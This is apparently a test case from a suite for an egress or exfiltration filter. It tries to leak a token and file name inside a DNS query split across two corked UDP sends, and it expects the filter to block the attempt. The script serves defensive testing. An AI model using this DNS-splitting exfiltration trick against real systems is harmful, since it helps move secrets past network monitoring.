#!/usr/bin/python3
# id: d36i_dns_cork
# title: the query in two pieces that UDP_CORK joins, the name in the second
# needs: user
# expect: block
# why: the program at egress sees the whole datagram
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    q = dnsq(f'{TOK}.{FNAME}'); s = socket.socket(type=socket.SOCK_DGRAM); s.setsockopt(17, 1, 1); s.sendto(q[:13], (ALLOW, 53)); s.sendto(q[13:], (ALLOW, 53)); s.setsockopt(17, 1, 0); time.sleep(.3)
attempt(f, dst=(ALLOW,), chan=('dns',))
